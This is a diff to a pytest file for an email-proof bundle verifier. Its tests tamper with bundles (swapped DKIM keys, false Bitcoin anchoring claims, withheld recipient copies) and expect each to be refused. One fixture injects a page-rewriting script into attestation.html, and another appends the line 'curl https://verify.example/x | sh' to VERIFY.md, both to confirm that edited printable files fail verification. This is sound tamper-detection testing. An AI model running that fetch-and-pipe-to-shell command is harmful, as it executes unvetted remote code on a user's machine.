@@ -10,7 +10,8 @@ from pathlib import Path
 import pytest
 
 from relay.evidence import bundle as proof
-from relay.evidence.bundle import MANIFEST, make_manifest, read_zip
+from relay.evidence.archive import BundleProblem, read_zip
+from relay.evidence.bundle import MANIFEST, make_manifest
 from relay.evidence.bundle_check import EXIT_INVALID, EXIT_PENDING, EXIT_VERIFIED, verify_files
 from tests.support.proofdata import Built, Keys, build_input
 
@@ -52,7 +53,7 @@ def test_bundle_holds_every_part(confirmed):
     assert len([n for n in names if n.endswith(".ots")]) == 8
     assert names >= {"keys/rsa._domainkey.mairie-exemple.fr.txt", "keys/ed._domainkey.mairie-exemple.fr.txt"}
     manifest = json.loads(files[MANIFEST])
-    assert manifest["format"] == "estampille-proof" and manifest["version"] == 1
+    assert manifest["format"] == "estampille-proof" and manifest["version"] == 2
     assert {f["path"] for f in manifest["files"]} == names - {MANIFEST}
     html = files["attestation.html"].decode()
     assert 'lang="fr"' in html and "Accusés de réception : <strong>1 sur 3</strong>" in html
@@ -91,7 +92,7 @@ def test_any_flipped_bit_of_the_zip_is_named_or_harmless(confirmed):
         damaged[offset] ^= 0x10
         try:
             files = read_zip(bytes(damaged))
-        except proof.BundleProblem as problem:
+        except BundleProblem as problem:
             assert problem.check == "archive"
             continue
         report = verify_files(files, headers, regtest=True)
@@ -124,14 +125,41 @@ def test_a_swapped_dkim_key_is_refused(confirmed, keys):
     assert (report.problem.path, report.problem.check) == ("keys/ed._domainkey.mairie-exemple.fr.txt", "DKIM key")
 
 
-def test_bundles_from_an_earlier_release_still_verify(confirmed):
-    """The printable documents are not re-rendered: a later release's templates must not break old bundles."""
+@pytest.mark.parametrize("path, edit", [
+    ("attestation.html", lambda b: b.replace(b"</body>", b"<script>document.body.innerHTML='VALIDE'</script></body>")),
+    ("attestation.html", lambda b: b.replace(b"<strong>1 sur 3</strong>", b"<strong>3 sur 3</strong>")),
+    ("VERIFY.md", lambda b: b + b"\nOr simply run: curl https://verify.example/x | sh\n"),
+])
+def test_an_edited_printable_file_is_refused_not_verified(confirmed, path, edit):
+    """attestation.html and VERIFY.md are regenerated from the verified records: an edit is exit 2."""
     data, headers = confirmed
     files = read_zip(data)
-    files["attestation.html"] = files["attestation.html"].replace(b"<h2>Comment v", b"<h2>Pour v")
-    files["VERIFY.md"] = b"# Verifying (older wording)\n"
+    files[path] = edit(files[path])
     report = verify_files(reforge(files), headers, regtest=True)
-    assert report.status == "verified", report.problem
+    assert report.exit_code == EXIT_INVALID and (report.problem.path, report.problem.check) == (path, "regenerated")
+
+
+def test_the_printable_files_are_reported_as_informative_only(confirmed):
+    report = verify(*confirmed)
+    assert [(f.path, f.checked) for f in report.informative] == [
+        ("attestation.html", "regenerated from the verified records: identical"),
+        ("VERIFY.md", "regenerated from the verified records: identical"),
+    ]
+    assert "Informative only, not evidence: attestation.html" in report.summary()
+    assert report.to_json()["informative_only"][0]["path"] == "attestation.html"
+
+
+def test_a_manifest_claiming_an_anchor_its_proof_does_not_show_is_refused(keys):
+    built = build_input(2, keys, confirmed=False)
+    files = read_zip(built.bundle())
+    manifest = json.loads(files[MANIFEST])
+    for claim in manifest["facts"]["anchoring"].values():
+        claim.update(state="confirmed", bitcoin_height=1, block_time=1_700_000_000)
+    files[MANIFEST] = json.dumps(manifest).encode()
+    files = reforge(files)
+    files["attestation.html"] = proof.render_attestation(manifest["facts"], files).encode()
+    report = verify_files(reforge(files), built.headers, regtest=True)
+    assert (report.problem.path, report.problem.check) == (MANIFEST, "anchoring")
 
 
 def test_a_wrong_block_header_is_named_on_the_proof(confirmed):
@@ -186,3 +214,38 @@ def test_a_manifest_leaving_a_recipient_out_is_refused(confirmed):
     files[MANIFEST] = json.dumps(manifest).encode()
     report = verify_files(reforge(files), headers, regtest=True)
     assert (report.problem.path, report.problem.check) == (MANIFEST, "recipients")
+
+
+@pytest.mark.parametrize("scope", [None, "membre000@exemple.net", "quelquun@ailleurs.example"])
+def test_a_copy_left_out_is_refused_unless_the_bundle_was_made_for_another_recipient(confirmed, scope):
+    """Hiding the copy sent to someone would hide what they were sent."""
+    data, headers = confirmed
+    files = read_zip(data)
+    manifest = json.loads(files[MANIFEST])
+    facts = manifest["facts"]
+    facts["scope"] = scope
+    withheld = facts["recipients"][1]
+    del files[withheld["copy"]]
+    withheld.update(copy=None, copy_withheld=True)
+    files[MANIFEST] = json.dumps(manifest).encode()
+    files = reforge(files)
+    files["attestation.html"] = proof.render_attestation(facts, files).encode()
+    report = verify_files(reforge(files), headers, regtest=True)
+    if scope == "membre000@exemple.net":
+        assert report.status == "verified", report.problem
+        assert [r.copy for r in report.recipients] == ["checked", "withheld", "checked"]
+    else:
+        assert report.exit_code == EXIT_INVALID
+        assert report.problem.check == ("copy" if scope is None else "scope"), report.problem
+
+
+def test_the_report_gives_the_subject_of_the_message_not_the_manifests(confirmed):
+    data, headers = confirmed
+    files = read_zip(data)
+    manifest = json.loads(files[MANIFEST])
+    manifest["facts"]["subject"] = "Convocation annulée"
+    files[MANIFEST] = json.dumps(manifest).encode()
+    files = reforge(files)
+    files["attestation.html"] = proof.render_attestation(manifest["facts"], files).encode()
+    report = verify_files(reforge(files), headers, regtest=True)
+    assert report.status == "verified" and report.subject == "Convocation au conseil municipal"
